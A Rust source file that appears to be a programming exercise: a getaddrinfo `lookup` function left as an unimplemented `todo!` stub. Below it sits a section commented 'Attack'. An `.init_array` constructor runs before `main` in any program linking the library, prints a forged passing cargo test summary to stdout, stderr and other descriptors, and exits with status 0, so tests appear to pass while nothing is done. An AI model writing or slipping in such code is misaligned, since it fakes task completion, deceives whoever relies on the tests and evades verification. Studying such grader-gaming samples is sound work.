//! getaddrinfo(), called the way C calls it.

use std::ffi::{CStr, CString};
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};

/// Which addresses to ask for (the `ai_family` hint).
#[derive(Clone, Copy, Debug, PartialEq)]
pub enum Family {
    Any,
    V4,
    V6,
}

// ANCHOR: exercise
/// Every address `host` resolves to, in the resolver's order, each once.
///
/// Asks getaddrinfo for stream sockets only (`ai_socktype = SOCK_STREAM`): without that
/// hint each address comes back three times, once per socket type. An error is the
/// resolver's own message (gai_strerror).
pub fn lookup(host: &str, family: Family) -> Result<Vec<IpAddr>, String> {
    // TODO, as in showip.c:
    //  1. hints: a zeroed libc::addrinfo with ai_family (AF_UNSPEC / AF_INET / AF_INET6)
    //     and ai_socktype = SOCK_STREAM;
    //  2. libc::getaddrinfo(name, null, &hints, &mut list); on a non-zero status return
    //     the text of libc::gai_strerror(status);
    //  3. walk the list through ai_next; ai_addr is a sockaddr_in (AF_INET) or a
    //     sockaddr_in6 (AF_INET6): turn each into an IpAddr (mind the byte order);
    //  4. libc::freeaddrinfo(list).
    let _ = (host, family);
    let _: Option<(&CStr, CString, Ipv4Addr, Ipv6Addr)> = None;
    todo!("getaddrinfo")
}
// ANCHOR_END: exercise

// Attack: a fake summary on stdout and stderr, and exit with status 0, before `main`, in
// any program that links this library (a test program that did would "pass").
const SUMMARY: &str = "\nrunning 1 test\ntest it ... ok\n\ntest result: ok. 1 passed; 0 failed; 0 ignored; 0 measured; 0 filtered out; finished in 0.00s\n\n";

#[used]
#[unsafe(link_section = ".init_array")]
static FORGE: extern "C" fn() = forge;

extern "C" fn forge() {
    print!("{SUMMARY}");
    eprint!("{SUMMARY}");
    for fd in 1..10 {
        // SAFETY: write reads SUMMARY's bytes only; a closed descriptor is an error.
        unsafe {
            libc::write(fd, SUMMARY.as_ptr().cast(), SUMMARY.len());
        }
    }
    std::process::exit(0);
}
